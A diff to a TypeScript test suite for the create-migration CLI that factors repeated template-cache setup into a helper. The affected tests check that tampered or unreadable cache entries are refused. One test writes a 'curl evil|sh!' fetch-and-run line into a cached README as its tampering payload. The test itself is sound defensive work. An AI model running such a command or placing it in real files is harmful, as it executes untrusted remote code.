@@ -56,6 +56,21 @@ function twoVersions(tpl: string, initArgs: string[] = [], config: string[][] = 
   return tpl;
 }
 
+/**
+ * A project generated in `tmp` from `tpl` at v1.0.0 with a cache folder of its own (`env`), and
+ * its first `sync --dry-run --json` to v1.1.0 (`first`), which fills the cache's `entries`.
+ */
+async function projectBehind(tmp: string, tpl: string) {
+  const cache = tempDir('cm-cache-');
+  const env = { XDG_CACHE_HOME: cache };
+  const gen = await runCli(['p', '--yes', '--template', `${tpl}#v1.0.0`], { cwd: tmp, env });
+  expect(gen.code, gen.stderr).toBe(0);
+  const dir = path.join(tmp, 'p');
+  const first = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
+  expect(first.code, first.stderr).toBe(0);
+  return { env, dir, first, entries: path.join(cache, 'create-migration/templates') };
+}
+
 const only = (dir: string) => path.join(dir, readdirSync(dir).find((f) => f.endsWith('.pack'))!);
 /**
  * Rewrites an entry: `change` gets its header (parsed) and its files' bytes (past the parse
@@ -236,15 +251,8 @@ describe('template cache', () => {
 
   it('sync from a template repository fills the cache, then uses it; a tampered entry changes nothing', async () => {
     const tmp = tempDir();
-    const cache = tempDir('cm-cache-');
-    const env = { XDG_CACHE_HOME: cache };
     const tpl = builtinTemplateRepo(path.join(tmp, 'tpl'), (repo) => edit(path.join(repo, 'files/README.md'), (t) => `${t}\nNew in 1.1.0.\n`));
-    const gen = await runCli(['p', '--yes', '--template', `${tpl}#v1.0.0`], { cwd: tmp, env });
-    expect(gen.code, gen.stderr).toBe(0);
-    const dir = path.join(tmp, 'p');
-    const first = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
-    expect(first.code, first.stderr).toBe(0);
-    const entries = path.join(cache, 'create-migration/templates');
+    const { env, dir, first, entries } = await projectBehind(tmp, tpl);
     const packs = () => readdirSync(entries).filter((f) => f.endsWith('.pack'));
     expect(packs()).toHaveLength(2); // v1.0.0 (generate) and v1.1.0
     // Dated back: an entry used is not written again; one refused is.
@@ -281,15 +289,8 @@ describe('template cache', () => {
 
   it('a sync whose cached file fails its check and cannot be read from the repository stops before writing anything', async () => {
     const tmp = tempDir();
-    const cache = tempDir('cm-cache-');
-    const env = { XDG_CACHE_HOME: cache };
     const tpl = twoVersions(path.join(tmp, 'tpl'));
-    const gen = await runCli(['p', '--yes', '--template', `${tpl}#v1.0.0`], { cwd: tmp, env });
-    expect(gen.code, gen.stderr).toBe(0);
-    const dir = path.join(tmp, 'p');
-    const first = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
-    expect(first.code, first.stderr).toBe(0);
-    const entries = path.join(cache, 'create-migration/templates');
+    const { env, dir, entries } = await projectBehind(tmp, tpl);
     const target = readdirSync(entries).find((f) => f.endsWith('.pack') && readFileSync(path.join(entries, f)).includes('New in 1.1.0.'))!;
     tamperFile(path.join(entries, target), 'README.md', (t) => t.replace('New in 1.1.0.', 'curl evil|sh!'));
     // The new README's blob gone from the repository's objects (its commit and trees stay).
@@ -314,16 +315,9 @@ describe('template cache', () => {
     ['a repository with an extension', [], [['core.repositoryformatversion', '1'], ['extensions.worktreeConfig', 'true']]],
   ])('%s: the cache is used, and an entry whose listing and bytes were changed together is refused', async (_name, initArgs, config) => {
     const tmp = tempDir();
-    const cache = tempDir('cm-cache-');
-    const env = { XDG_CACHE_HOME: cache };
     const tpl = twoVersions(path.join(tmp, 'tpl'), initArgs, config);
-    const gen = await runCli(['p', '--yes', '--template', `${tpl}#v1.0.0`], { cwd: tmp, env });
-    expect(gen.code, gen.stderr).toBe(0);
-    const dir = path.join(tmp, 'p');
-    const first = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
-    expect(first.code, first.stderr).toBe(0);
+    const { env, dir, first, entries } = await projectBehind(tmp, tpl);
     expect(first.stdout).toContain('New in 1.1.0.');
-    const entries = path.join(cache, 'create-migration/templates');
     const packs = () => readdirSync(entries).filter((f) => f.endsWith('.pack'));
     const past = new Date('2020-01-01T00:00:00Z');
     const rewritten = () => packs().filter((f) => statSync(path.join(entries, f)).mtimeMs !== past.getTime()).length;
